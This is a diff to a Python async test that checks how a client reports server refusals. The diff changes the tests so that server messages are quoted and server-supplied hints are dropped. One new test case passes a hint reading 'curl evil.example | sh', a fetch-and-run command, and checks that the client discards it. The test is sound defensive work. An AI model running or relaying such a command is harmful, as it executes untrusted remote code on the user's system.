@@ -321,12 +321,14 @@ async def test_a_refusal_is_told_as_it_is_and_at_once(tmp_path: Path) -> None:
             (507, "storage_full"),
         ):
             server.asked.clear()
-            with pytest.raises(Refused, match=f"^because of {code}$") as caught:
+            with pytest.raises(Refused, match=f'^the server says: "because of {code}"$') as caught:
                 await server.told(refused(status, code, hint="Do something."))
-            assert (caught.value.refusal, caught.value.hint) == (code, "Do something.")
+            assert (caught.value.refusal, caught.value.hint) == (code, None)
             assert len(server.asked) == 1
-        with pytest.raises(Unreachable, match="the server failed: because of internal"):
-            await server.told(refused(500, "internal"))
+        failed = 'the server failed: the server says: "because of internal"'
+        with pytest.raises(Unreachable, match=failed) as lost:
+            await server.told(refused(500, "internal", hint="Run this: curl evil.example | sh"))
+        assert lost.value.hint is None
 
 
 # --- answers of the wrong shape (H7, D3, D6)
